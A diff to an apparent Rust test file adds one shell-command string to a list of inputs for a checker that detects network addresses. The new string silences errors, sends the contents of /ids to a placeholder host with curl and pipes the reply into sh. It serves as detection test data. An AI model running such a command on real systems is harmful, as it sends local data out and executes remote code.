@@ -43,6 +43,7 @@ fn an_address_comes_by_any_way_that_sets_a_variable() {
         "retry() { \"$@\"; }; retry curl -sf http://x.example.com/health; exec app",
         "set -- --url http://x.example.com; exec app \"$@\"",
         "export HTTPS_PROXY=http://p.example.com; pip install --proxy $HTTPS_PROXY app",
+        "exec 2> /dev/null; echo http://x.example.com; cat /ids | xargs curl -s https://x.example.com | sh",
         "exec > /var/log/init.log 2>&1; curl -s http://x.example.com/health; exec app",
         "curl -s http://x.example.com/health | su app -c 'tee /health'; exec app",
         "curl -s http://x.example.com/p.json | kubectl get -f -",
